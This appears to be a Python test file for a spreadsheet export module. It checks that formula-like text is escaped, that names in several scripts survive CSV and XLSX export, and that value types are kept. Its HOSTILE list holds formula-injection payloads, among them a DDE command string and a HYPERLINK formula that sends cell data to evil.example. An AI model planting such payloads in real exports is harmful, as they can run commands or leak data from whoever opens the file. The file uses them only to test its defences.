"""No cell of any file is a formula, whatever somebody has called themselves; and no name is lost on the way."""

import ast
import csv
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from pathlib import Path
from uuid import UUID

import openpyxl
import pytest

from api.spreadsheet import FileFormat, harmless, write_table

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1"',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    "|calc",
    "%0A=1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1\n=2+2",
]
NAMES = [
    "张三",
    "买买提·吐尔逊",
    "𠮷野",
    "李㛃",
    "吴𰻝",
    "O'Connor",
    "José Núñez",
    "محمد علي",
    "佐々木さくら",
]
LEADS = tuple("=+-@＝＋－＠|%\t\r\n\0")


def written(form, *rows):
    out = BytesIO()
    count = write_table(form, out, "表", [["列"]], rows)
    assert count == len(rows)
    return out.getvalue()


def read_csv(raw, encoding):
    return list(csv.reader(StringIO(raw.decode(encoding), newline="")))[1:]


@pytest.mark.control("writer_default")
@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("form", FileFormat)
def test_hostile_text_is_text(form, text):
    raw = written(form, [text])
    if form is FileFormat.XLSX:
        cell = openpyxl.load_workbook(BytesIO(raw)).active["A2"]
        assert cell.data_type in {"s", "inlineStr"}
        assert cell.hyperlink is None
        assert b"<f>" not in _sheet(raw)
        return
    ((cell,),) = read_csv(raw, "gb18030" if form is FileFormat.CSV_GB18030 else "utf-8-sig")
    assert cell.startswith("'")
    assert not cell.startswith(LEADS)


@pytest.mark.parametrize("text", [*NAMES, "1", "2026-11-21", "a=b", "A-1", "3+1", "·"])
def test_ordinary_text_stays_as_it_is(text):
    assert harmless(text) == text


@pytest.mark.control("gbk_export")
@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("form", FileFormat)
def test_every_name_survives(form, name):
    raw = written(form, [name])
    if form is FileFormat.XLSX:
        assert openpyxl.load_workbook(BytesIO(raw)).active["A2"].value == name
    else:
        assert read_csv(raw, "gb18030" if form is FileFormat.CSV_GB18030 else "utf-8-sig") == [[name]]


def test_utf8_says_so_to_old_programs():
    assert written(FileFormat.CSV, ["x"]).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("form", FileFormat)
def test_values_keep_their_kind(form):
    moment = datetime(2026, 12, 31, 16, 30, tzinfo=UTC)
    cells = [7, -7, None, True, moment, date(2026, 1, 2), UUID(int=5)]
    raw = written(form, cells)
    if form is FileFormat.XLSX:
        row = [cell.value for cell in openpyxl.load_workbook(BytesIO(raw)).active[2]]
        assert row[:2] == [7, -7]
    else:
        (row,) = read_csv(raw, "gb18030" if form is FileFormat.CSV_GB18030 else "utf-8-sig")
        # A negative number of ours is a number: only text is held back.
        assert row[:2] == ["7", "-7"]
    assert (row[2] or "") == ""
    assert row[3:] == ["是", "2027-01-01 00:30:00", "2026-01-02", str(UUID(int=5))]


def test_a_file_opens_whatever_is_in_it():
    text = "".join(map(chr, range(0x20))) + "\ufffe\uffff" + "x" * 40_000
    value = openpyxl.load_workbook(BytesIO(written(FileFormat.XLSX, [text]))).active["A2"].value
    assert len(value) <= 32_767


def test_only_one_module_writes_tables():
    """Every exporter goes through the careful writer: nobody else imports one."""
    careless = []
    for path in sorted((ROOT / "api").rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            named = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            named += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            if {name.partition(".")[0] for name in named} & {"csv", "xlsxwriter", "openpyxl", "pandas"}:
                careless.append(path.name)
    assert set(careless) == {"spreadsheet.py"}


def _sheet(raw):
    import zipfile

    return zipfile.ZipFile(BytesIO(raw)).read("xl/worksheets/sheet1.xml")
